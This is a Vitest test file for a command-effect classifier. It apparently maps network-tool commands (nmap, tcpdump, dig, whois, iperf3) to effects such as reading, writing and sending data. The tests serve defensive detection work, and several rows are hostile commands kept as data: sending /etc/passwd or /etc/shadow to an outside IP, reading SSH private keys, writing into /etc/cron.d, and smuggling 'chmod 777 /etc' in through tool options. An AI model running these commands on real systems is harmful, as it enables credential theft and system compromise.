import { describe, expect, it } from 'vitest';
import { effectsOf } from '../../effects-of.js';

const rows: readonly (readonly [command: string, effects: readonly string[]])[] = [
  ['ss -tlnp', []],
  ['ss -a -F /etc/shadow', ['read:read /etc/shadow sensitive']],
  ['ss -K dst 192.0.2.1', ['network:cut dst 192.0.2.1']],
  ['netstat -tulpn', []],
  ['ping -c 4 example.com', ['network:connect example.com external']],
  ['fping -f /etc/shadow', ['read:read /etc/shadow sensitive']],
  ['traceroute example.com', ['network:connect example.com external']],
  ['mtr --raw -F /etc/shadow', ['read:read /etc/shadow sensitive']],
  ['dig +short example.com', ['network:connect example.com']],
  ['dig -f /etc/shadow', ['read:read /etc/shadow sensitive']],
  ['dig @192.0.2.1 example.com MX', ['network:connect 192.0.2.1', 'network:connect example.com']],
  ['nslookup example.com', ['network:connect example.com']],
  ['host -t mx example.com', ['network:connect example.com']],
  ['whois example.com', ['network:connect whois']],
  ['whois -h 192.0.2.9 -p 43 "$(cat /etc/passwd)"', ['read:read /etc/passwd', 'network:send-data 192.0.2.9 external']],
  ['nsupdate -k key', ['read:read key', 'network:configure names']],
  ['nmap -sV -p 80,443 192.0.2.0/24', ['network:scan 192.0.2.0/24 external']],
  ['nmap -iL /root/.ssh/id_rsa', ['read:read /root/.ssh/id_rsa sensitive']],
  ['nmap -oG=/etc/passwd x', ['write:overwrite /etc/passwd', 'network:scan x external']],
  ['nmap -oX out.xml 192.0.2.1', ['write:overwrite out.xml', 'network:scan 192.0.2.1 external']],
  ['nmap --script=/tmp/x.nse localhost', ['execute:load /tmp/x.nse', 'network:scan localhost external']],
  ['nmap --script=default localhost', ['network:scan localhost external']],
  ['nmap --interactive', ['execute:shell nmap']],
  ['masscan -p80 10.0.0.0/8', ['network:scan 10.0.0.0/8 external']],
  ['tcpdump -i eth0 -w /tmp/cap.pcap', ['write:overwrite /tmp/cap.pcap', 'read:capture eth0']],
  ['tcpdump -i eth0 port 80', ['read:watch-packets eth0']],
  ['tcpdump -r cap.pcap', ['read:read cap.pcap']],
  ['tcpdump -D', []],
  [
    "tcpdump -i lo -w x -G 1 -z 'chmod 777 /etc'",
    ['write:overwrite x', 'permission:world-writable /etc', 'read:capture lo'],
  ],
  ['tcpdump -w /etc/passwd -c 1', ['write:overwrite /etc/passwd', 'read:capture any']],
  ['tshark -r cap.pcap', ['read:read cap.pcap']],
  ['tshark -X lua_script:/tmp/x.lua', ['execute:load /tmp/x.lua', 'read:capture any']],
  ['dumpcap -i eth0', ['read:capture eth0']],
  ['tcpreplay -i eth0 cap.pcap', ['read:read cap.pcap external', 'network:send external']],
  ['iperf3 -c host.example.com', ['network:connect host.example.com external']],
  [
    'iperf3 -c host.example.com -F /etc/passwd',
    ['network:connect host.example.com external', 'read:read /etc/passwd external', 'network:send-data external'],
  ],
  [
    'nmap --script http-put --script-args http-put.url=/,http-put.file=/etc/shadow 192.0.2.1',
    ['read:read /etc/shadow external sensitive', 'network:send external sensitive', 'network:scan 192.0.2.1 external'],
  ],
  [
    'nmap --script http-fetch --script-args http-fetch.destination=/etc/cron.d,http-fetch.url=x 192.0.2.1',
    ['write:overwrite /etc/cron.d', 'network:scan 192.0.2.1 external'],
  ],
  ["naabu -host x -nmap-cli 'chmod 777 /etc'", ['permission:world-writable /etc']],
  ['zmap -p 22 --output-file out.csv 192.0.2.0/24', ['write:overwrite out.csv', 'network:scan 192.0.2.0/24 external']],
];

describe('looking at networks', () => {
  it.each(rows)('%s', (command, effects) => {
    expect(effectsOf(command)).toEqual(effects);
  });
});
